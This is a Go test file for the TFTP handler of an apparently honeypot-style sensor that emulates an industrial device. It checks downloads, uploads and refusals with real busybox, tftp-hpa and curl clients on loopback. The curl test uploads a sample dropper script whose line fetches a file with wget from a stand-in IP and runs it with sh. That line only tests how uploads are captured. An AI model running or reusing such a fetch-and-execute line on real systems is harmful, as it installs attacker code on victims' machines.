package tftp

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pcapot/pcapot/internal/testenv"
	"github.com/pcapot/pcapot/protocols"
	"github.com/pcapot/pcapot/protocols/protocoltest"
)

// These tests drive the handler, served on loopback the way the sensor serves UDP
// (one session per client address, replies from the listening socket), with real
// TFTP clients: busybox tftp, tftp-hpa and curl.

func serveReal(t *testing.T) (*protocoltest.Server, *Handler) {
	t.Helper()
	cfg := NewConfig()
	cfg.Files = append(cfg.Files, File{Path: "cfg/lines.txt", Content: "line 1\nline 2\r\nend\n"})
	h, err := New(protocoltest.Env(t, testIdentity()), cfg)
	if err != nil {
		t.Fatal(err)
	}
	return protocoltest.ServeUDP(t, "127.0.0.1:0", h), h
}

func run(t *testing.T, dir string, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// expected returns the bytes the server serves for a file.
func expected(t *testing.T, h *Handler, name string) []byte {
	t.Helper()
	f := h.files[name]
	if f == nil {
		t.Fatalf("no file %s", name)
	}
	b := make([]byte, f.size)
	f.readAt(b, 0)
	return b
}

func readFile(t *testing.T, p string) []byte {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// checkUpload checks the upload event of name and the file kept for it.
func checkUpload(t *testing.T, srv *protocoltest.Server, name string, want []byte) {
	t.Helper()
	sum := sha256.Sum256(want)
	e := srv.WaitEvent(t, "upload", func(e protocols.Event) bool { return e.Detail["name"] == name })
	if !bytes.Equal(e.Data, want[:min(len(want), 256)]) || e.Detail["sha256"] != hex.EncodeToString(sum[:]) || e.Detail["complete"] != "true" ||
		e.Detail["size"] != strconv.Itoa(len(want)) || !e.Write {
		t.Errorf("upload event %+v (%d bytes)", e.Detail, len(e.Data))
	}
	var kept []protocols.File
	for _, f := range srv.Files() {
		if f.Name == name {
			kept = append(kept, f)
		}
	}
	if len(kept) != 1 || !bytes.Equal(kept[0].Data, want) || kept[0].Truncated || kept[0].Protocol != "tftp" {
		t.Errorf("kept files %+v", kept)
	}
}

func TestBusybox(t *testing.T) {
	busybox := testenv.LookPath(t, "busybox")
	srv, h := serveReal(t)
	port := strconv.Itoa(int(srv.Addr.Port()))
	dir := t.TempDir()

	run(t, dir, busybox, "tftp", "-g", "-r", "sys/version.txt", "-l", "version.txt", "127.0.0.1", port)
	if got := readFile(t, filepath.Join(dir, "version.txt")); !bytes.Equal(got, expected(t, h, "sys/version.txt")) {
		t.Errorf("version.txt = %q", got)
	}
	// A firmware image with a large block size (busybox asks for blksize and tsize).
	run(t, dir, busybox, "tftp", "-g", "-b", "1428", "-r", "fw/v3.40.ldx", "-l", "fw.bin", "127.0.0.1", port)
	if got := readFile(t, filepath.Join(dir, "fw.bin")); !bytes.Equal(got, expected(t, h, "fw/v3.40.ldx")) {
		t.Errorf("firmware image: %d bytes, want %d", len(got), h.files["fw/v3.40.ldx"].size)
	}
	payload := bytes.Repeat([]byte("busybox upload "), 100)
	if err := os.WriteFile(filepath.Join(dir, "up.bin"), payload, 0o600); err != nil {
		t.Fatal(err)
	}
	run(t, dir, busybox, "tftp", "-p", "-l", "up.bin", "-r", "incoming/up.bin", "127.0.0.1", port)
	checkUpload(t, srv, "incoming/up.bin", payload)

	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, busybox, "tftp", "-g", "-r", "nope.bin", "-l", "nope", "127.0.0.1", port).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "File not found") {
		t.Errorf("missing file: %v %s", err, out)
	}
	srv.WaitEvent(t, "read_complete", func(e protocols.Event) bool {
		return e.Area == "fw/v3.40.ldx" && e.Detail["blksize"] == "1428" && e.Quantity == 1867776
	})
}

func TestTftpHPA(t *testing.T) {
	tftp := testenv.LookPath(t, "tftp")
	srv, h := serveReal(t)
	port := strconv.Itoa(int(srv.Addr.Port()))
	dir := t.TempDir()

	run(t, dir, tftp, "-m", "binary", "127.0.0.1", port, "-c", "get", "sys/version.txt", "version.txt")
	if got := readFile(t, filepath.Join(dir, "version.txt")); !bytes.Equal(got, expected(t, h, "sys/version.txt")) {
		t.Errorf("binary get = %q", got)
	}
	// netascii: the client turns CR LF back into the local line ends.
	run(t, dir, tftp, "-m", "ascii", "127.0.0.1", port, "-c", "get", "cfg/lines.txt", "lines.txt")
	if got := string(readFile(t, filepath.Join(dir, "lines.txt"))); got != "line 1\nline 2\r\nend\n" {
		t.Errorf("ascii get = %q", got)
	}
	payload := make([]byte, 512*3) // a multiple of the block size: ends with an empty block
	for i := range payload {
		payload[i] = byte(i * 7)
	}
	if err := os.WriteFile(filepath.Join(dir, "blob"), payload, 0o600); err != nil {
		t.Fatal(err)
	}
	run(t, dir, tftp, "-m", "binary", "127.0.0.1", port, "-c", "put", "blob", "upload/blob.bin")
	checkUpload(t, srv, "upload/blob.bin", payload)
	// Writing over one of the device's files is refused.
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	out, _ := exec.CommandContext(ctx, tftp, "-m", "binary", "127.0.0.1", port, "-c", "put", filepath.Join(dir, "blob"), "sys/version.txt").CombinedOutput()
	if !strings.Contains(string(out), "Access violation") {
		t.Errorf("put over a device file: %s", out)
	}
}

func TestCurl(t *testing.T) {
	curl := testenv.LookPath(t, "curl")
	srv, h := serveReal(t)
	base := "tftp://127.0.0.1:" + strconv.Itoa(int(srv.Addr.Port()))
	dir := t.TempDir()

	run(t, dir, curl, "-sS", "--max-time", "20", "-o", "prm", base+"/fdr/m340-pump-station.prm")
	if got := readFile(t, filepath.Join(dir, "prm")); !bytes.Equal(got, expected(t, h, "fdr/m340-pump-station.prm")) {
		t.Errorf("curl get: %d bytes", len(got))
	}
	run(t, dir, curl, "-sS", "--max-time", "20", "--tftp-blksize", "1024", "-o", "fw", base+"/fw/v3.40.ldx")
	if got := readFile(t, filepath.Join(dir, "fw")); !bytes.Equal(got, expected(t, h, "fw/v3.40.ldx")) {
		t.Errorf("curl get with blksize: %d bytes", len(got))
	}
	payload := []byte("#!/bin/sh\nwget http://198.51.100.7/x -O /tmp/x; sh /tmp/x\n")
	if err := os.WriteFile(filepath.Join(dir, "drop.sh"), payload, 0o600); err != nil {
		t.Fatal(err)
	}
	run(t, dir, curl, "-sS", "--max-time", "20", "-T", "drop.sh", base+"/")
	checkUpload(t, srv, "drop.sh", payload)
}
